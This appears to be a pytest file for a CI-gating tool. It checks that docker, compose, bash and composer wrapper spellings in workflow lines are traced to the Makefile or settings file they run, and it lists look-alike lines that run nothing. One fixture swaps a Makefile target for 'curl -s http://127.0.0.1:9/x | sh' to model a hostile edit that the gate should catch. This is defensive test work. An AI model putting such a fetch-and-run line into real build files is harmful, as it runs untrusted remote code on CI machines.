"""Review 70b: spellings of a shell string or a container's command that label 91's reader missed (issue 12).

`docker` takes its own options before the verb (`docker --context ci exec app make test`, `docker -H
tcp://127.0.0.1:9 run …`, `docker --log-level debug compose run …`), `docker container exec|run` is `docker
exec|run`, `docker compose` takes `--ansi`, `--progress` and `--parallel` with a value before `run`/`exec`, and bash
ends its options with `--` (`bash -c -- 'make test'`) or takes a value (`bash --rcfile ci/rc -c '…'`): on 779774c6
each of these left the file the inner command runs `src`, and `gate --tree` allowed the whole edit (exit 0):
12 of the 12 variants, and 4 of the 4 lines the reader is asked directly gave no command. Look-alikes: a `docker`
line whose verb runs nothing (`docker --context ci logs app`, `docker container ls`), a shell string after `--` that
only prints, an image with no mount. `composer exec BINARY …` runs a vendored binary (`composer exec codecept run`):
on 779774c6 4 of 4 left the settings it reads allowed; `composer exec --list`, `composer install` read none.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from cpucost import assert_linear, repeated

from gatekeeper.classify import wrappers

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {line}\n        working-directory: {folder}\n")
BEFORE, AFTER = "test:\n\techo ok\n", "test:\n\tcurl -s http://127.0.0.1:9/x | sh\n"
VARIANTS = [  # (the CI line, the file it runs, relative to the step's folder)
    ("docker --context ci exec app make test", "Makefile"),
    ("docker -H tcp://127.0.0.1:9 exec -T app make test", "Makefile"),
    ("docker --log-level debug compose run --rm app make test", "Makefile"),
    ("docker --host=tcp://127.0.0.1:9 --tls exec app make test", "Makefile"),
    ("docker container exec app make test", "Makefile"),
    ("docker container exec -it app bash -c 'make test'", "Makefile"),
    ("docker compose --ansi never run --rm svc make test", "Makefile"),
    ("docker compose --progress plain -f ci.yml exec svc make test", "Makefile"),
    ("docker-compose --parallel 2 run -T svc make test", "Makefile"),
    ('bash -c -- "make test"', "Makefile"),
    ("bash --rcfile ci/rc -c 'make test'", "Makefile"),
    ("docker --context ci run --rm -v $PWD:/src -w /src img make test", "Makefile"),
]
LOOK_ALIKES = [  # (the CI line, a file it does not run)
    ("docker --context ci logs app", "Makefile"),
    ("docker container ls --all", "Makefile"),
    ("docker compose --ansi never logs svc", "Makefile"),
    ("bash -c -- 'echo make test'", "Makefile"),
    ("docker --context ci run --rm img make test", "Makefile"),
]


@pytest.fixture(scope="module")
def reached(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    paths = []
    for number, (line, path) in enumerate([*VARIANTS, *LOOK_ALIKES]):
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(line=line, folder=f"v{number}")
        base[f"v{number}/{path}"] = BEFORE
        head[f"v{number}/{path}"] = AFTER
        paths.append(f"v{number}/{path}")
    code, named = gated_rules(committed(tmp_path_factory.mktemp("spellings"), base, head), True)
    assert code == 3
    found = set(named.get("core.ci", []))
    return {path: path in found for path in paths}


@pytest.mark.parametrize("number", range(len(VARIANTS)), ids=[line for line, _ in VARIANTS])
def test_the_command_inside_is_read(reached: dict[str, bool], number: int) -> None:
    assert reached[f"v{number}/{VARIANTS[number][1]}"]  # before: 12 of 12 left the file allowed


@pytest.mark.parametrize("number", range(len(LOOK_ALIKES)), ids=[line for line, _ in LOOK_ALIKES])
def test_a_look_alike_runs_nothing(reached: dict[str, bool], number: int) -> None:
    assert not reached[f"v{len(VARIANTS) + number}/{LOOK_ALIKES[number][1]}"]


@pytest.mark.parametrize("line", ["docker --config ci -D container exec app make test",
                                  "docker -c ci compose --project-directory . --ansi=never run svc make test",
                                  "podman --log-level=debug exec app make test", "sh -c -- 'make test'"])
def test_the_reader_gives_the_command(line: str) -> None:
    assert "make test" in wrappers.commands(line)


def test_the_reader_is_linear() -> None:
    assert_linear(wrappers.commands, repeated("docker --context c container exec a bash -c -- \"sh -c -- 'docker "),
                  budget=0.04)
    assert_linear(wrappers.commands, repeated("sh -c -- \"", head="docker --log-level x compose run s "), budget=0.04)


PHP_WORKFLOW = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
                "      - run: composer install\n      - run: {command}\n")
SETTINGS = "paths:\n  tests: tests\n"
VENDORED = [  # `composer exec BINARY` runs a vendored binary as `vendor/bin/BINARY` does (on 779774c6: 4 of 4 allowed)
    ("composer exec codecept run", "codeception.yml"),
    ("composer exec -- codecept run unit", "codeception.yml"),
    ("composer exec -v codecept run -c tests/app", "tests/app/codeception.yml"),
    ("composer exec phpunit", "phpunit.xml"),
]
VENDORED_LOOK_ALIKES = [("composer exec --list", "codeception.yml"), ("composer install", "phpunit.xml"),
                        ("composer exec codecept build", "codeception.yml")]


@pytest.mark.parametrize(("command", "path", "read"), [(c, p, True) for c, p in VENDORED]
                         + [(c, p, False) for c, p in VENDORED_LOOK_ALIKES])
def test_a_vendored_binary_composer_runs_reads_its_settings(tmp_path: Path, command: str, path: str,
                                                             read: bool) -> None:
    base = {".github/workflows/test.yml": PHP_WORKFLOW.format(command=command), path: SETTINGS,
            "src/App.php": "<?php\nfinal class App {}\n"}
    _, named = gated_rules(committed(tmp_path, base, {path: SETTINGS + "bootstrap: 127.0.0.1:9.php\n"}), True)
    assert (path in named.get("core.ci", [])) is read
